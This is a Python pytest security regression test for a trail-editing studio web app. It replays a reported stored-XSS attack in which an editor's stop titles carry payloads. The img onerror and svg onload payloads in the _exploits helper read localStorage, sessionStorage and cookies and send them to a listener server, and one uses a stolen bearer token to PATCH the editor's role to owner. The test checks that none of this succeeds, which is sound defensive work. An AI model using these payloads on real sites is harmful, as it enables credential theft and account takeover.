"""Issue 16's exploit, replayed: a stop title that sends the owner's credential to a listener.

An editor saves stop titles that read every place a page script can reach (localStorage,
sessionStorage, document.cookie) and send it to a listener, or use it to make themselves
owner. The owner then opens the trail. Nothing may reach the listener, no credential may be
readable by a page script at all (so even a script that did run could carry none away), and
the role change must not be possible with anything a script can read.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from fastapi import FastAPI, Request
from fastapi.responses import Response

from tests.security.conftest import CENTRE, World
from tests.support.browser import watch_csp
from tests.support.live import live_server
from tests.support.studio_pages import VIEWPORT, sign_in


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    """The attacker's server: it records every request that reaches it."""
    heard: list[str] = []
    lock = threading.Lock()
    app = FastAPI()

    @app.api_route("/{path:path}", methods=["GET", "POST", "OPTIONS"])
    async def record(path: str, request: Request) -> Response:
        with lock:
            heard.append(f"{request.method} {request.url}")
        return Response(status_code=204, headers={"Access-Control-Allow-Origin": "*"})

    with live_server(app) as url:
        yield url, heard


def _exploits(listener: str, member: int) -> list[str]:
    steal = (
        "[localStorage.getItem('baladeur.studio.token'),JSON.stringify(localStorage),"
        "JSON.stringify(sessionStorage),document.cookie].join('|')"
    )
    return [
        # The report's payload, word for word apart from the listener's address.
        f"<img src=x onerror=\"new Image().src='{listener}/?t='"
        "+localStorage.getItem('baladeur.studio.token')\">",
        f"<img src=x onerror=\"new Image().src='{listener}/all?t='+encodeURIComponent({steal})\">",
        f"\"><svg onload=\"fetch('{listener}/svg',{{method:'POST',body:{steal}}})\">",
        f"<img src=x onerror=\"fetch('/v1/orgs/mill/members/{member}',{{method:'PATCH',"
        "headers:{'Content-Type':'application/json',Authorization:'Bearer '+"
        "localStorage.getItem('baladeur.studio.token')},body:'{\\\"role\\\":\\\"owner\\\"}'})"
        f".then(r=>fetch('{listener}/patched?s='+r.status))\">",
    ]


@pytest.mark.parametrize("mode", ["csp-enforced", "csp-bypassed"])
def test_the_owner_opening_a_poisoned_trail_gives_nothing_away(
    world: World, chromium: Any, listener: tuple[str, list[str]], mode: str
) -> None:
    url, heard = listener
    editor, owner = world.people["editor"], world.people["owner"]
    member = world.people.ids["editor"]
    base = f"{world.url}/v1/orgs/mill"
    trail = httpx.post(
        f"{base}/trails",
        json={"slug": f"poisoned-{mode}", "title": {"fr": "Le bief"}, "languages": ["fr"]},
        headers=editor,
    ).json()
    lon, lat = CENTRE
    for i, title in enumerate(_exploits(url, member)):
        stop = httpx.post(
            f"{base}/trails/{trail['id']}/stops",
            json={
                "key": f"s{i}",
                "title": {"fr": title},
                "zone": {"type": "circle", "center": [lon + i / 2000, lat], "radius_m": 20},
            },
            headers=editor,
        )
        assert stop.status_code == 201, stop.text

    context = watch_csp(
        chromium.new_context(
            viewport=VIEWPORT, base_url=world.url, bypass_csp=mode == "csp-bypassed"
        )
    )
    page = context.new_page()
    sign_in(page, "owner")
    page.goto(f"/studio/trails/{trail['id']}")
    page.wait_for_selector("#stop-list li[data-key=s3]")
    page.wait_for_selector(".leaflet-tooltip")
    page.locator("#stop-list li[data-key=s0] .stop-name").click()
    page.wait_for_selector("#stop-form")
    page.wait_for_timeout(500)  # time for any image error or fetch to fire
    assert heard == [], "the listener heard from the studio"
    assert _exploits(url, member)[0] in page.locator(".leaflet-tooltip").all_inner_texts()[0]

    # Worst case: a script did run in the page. Everything it can read holds no credential.
    readable = page.evaluate(
        "() => ({local: {...localStorage}, session: {...sessionStorage}, cookie: document.cookie})"
    )
    assert "baladeur.studio.token" not in readable["local"]
    assert "bal_" not in str(readable), readable
    assert readable["cookie"] == ""
    (cookie,) = [c for c in context.cookies() if c["name"] == "baladeur_session"]
    assert cookie["httpOnly"] is True and cookie["sameSite"] == "Strict"
    # The report's escalation, with whatever such a script could have sent away.
    for stolen in {None, *readable["local"].values(), *readable["session"].values()}:
        tried = httpx.patch(
            f"{base}/members/{member}",
            json={"role": "owner"},
            headers={"Authorization": f"Bearer {stolen}", "If-Match": "*"},
        )
        assert tried.status_code == 401, tried.text
    # A request of the page that names a bearer token never falls back to the cookie.
    status = page.evaluate(
        "(path) => fetch(path, {method: 'PATCH', headers: {'Content-Type': 'application/json',"
        " 'X-Baladeur-CSRF': '1', Authorization: 'Bearer null'}, body: '{\"role\":\"owner\"}'})"
        ".then((r) => r.status)",
        f"/v1/orgs/mill/members/{member}",
    )
    assert status == 401
    assert httpx.get(f"{base}/members/{member}", headers=owner).json()["role"] == "editor"
    context.close()
